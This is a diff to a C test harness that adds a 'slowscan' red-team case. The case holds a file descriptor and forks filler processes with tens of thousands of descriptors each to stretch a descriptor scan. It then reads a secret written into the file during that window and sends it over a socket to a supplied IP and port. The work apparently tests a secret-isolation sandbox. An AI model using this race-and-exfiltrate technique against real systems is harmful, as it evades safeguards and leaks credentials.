@@ -1621,6 +1621,69 @@ int main(int argc, char **argv) {
         if (r == 0 && k > 0) report("after send", send(s, key, k, 0));
         return 0;
     }
+    if (!strcmp(name, "slowscan") && argc == 6) {
+        // slowscan PATH NFILL IP PORT (red team round 5, slow-scan): holds PATH (an
+        // ordinary file now), starts NFILL idle fillers holding ~20,000
+        // descriptors of /dev/null each (the late-mark scan, which looks at every
+        // descriptor before it decides, then lasts seconds), creates `held`, and
+        // polls what PATH holds through its descriptor every 0.5 ms: once it
+        // changes (an outside tool renamed PATH to .env and wrote the secret, while
+        // the scan runs), sends it (a fresh connect). Gives up after 30 s.
+        const char *path = argv[2];
+        int nfill = atoi(argv[3]);
+        int fd = open(path, O_RDONLY);
+        report("slowscan open", fd);
+        if (fd < 0) return 1;
+        char first[64] = {0};
+        if (pread(fd, first, sizeof first - 1, 0) < 0) return 1;
+        struct rlimit rl;
+        getrlimit(RLIMIT_NOFILE, &rl);
+        rl.rlim_cur = rl.rlim_max;
+        setrlimit(RLIMIT_NOFILE, &rl);
+        long nfd = rl.rlim_cur > 20064 ? 20064 : (long)rl.rlim_cur - 1;
+        int pp[2];
+        if (pipe(pp) != 0) return 1;
+        pid_t fill[64];
+        for (int i = 0; i < nfill && i < 64; i++) {
+            if ((fill[i] = fork()) == 0) {
+                close(fd);
+                int n = open("/dev/null", O_RDONLY);
+                for (long k = 64; k < nfd; k++)
+                    if (dup2(n, (int)k) < 0) break;
+                if (write(pp[1], "x", 1) != 1) _exit(1);
+                pause();
+                _exit(0);
+            }
+        }
+        for (int i = 0; i < nfill && i < 64; i++) {
+            char c;
+            if (read(pp[0], &c, 1) != 1) return 1;
+        }
+        printf("slowscan fillers: %d with %ld descriptors each\n", nfill, nfd);
+        int h = open("held", O_WRONLY | O_CREAT, 0600);
+        if (h >= 0) close(h);
+        printf("slowscan held\n");
+        fflush(stdout);
+        for (int i = 0; i < 60000; i++) {
+            char buf[128] = "LEAK:";
+            ssize_t k = pread(fd, buf + 5, 100, 0);
+            if (k > 0 && strncmp(buf + 5, first, 5) != 0 && memchr(buf + 5, '\n', (size_t)k)) {
+                printf("slowscan read: %.*s", (int)k, buf + 5);
+                fflush(stdout);
+                struct sockaddr_in sa;
+                int s = inet_socket(SOCK_STREAM, argv[4], atoi(argv[5]), &sa);
+                long r = s >= 0 ? connect(s, (struct sockaddr *)&sa, sizeof sa) : -1;
+                if (s >= 0) report("slowscan connect", r);
+                if (r == 0) report("slowscan send", send(s, buf, 5 + (size_t)k, 0));
+                break;
+            }
+            usleep(500);
+        }
+        for (int i = 0; i < nfill && i < 64; i++) kill(fill[i], SIGKILL);
+        while (wait(NULL) > 0) {
+        }
+        return 0;
+    }
     if (!strcmp(name, "earlyhold") && argc == 6) {
         // earlyhold HOW PATH IP PORT: holds PATH (an ordinary file now) before it
         // becomes a secret: HOW fd (a descriptor), map (a shared mapping, the
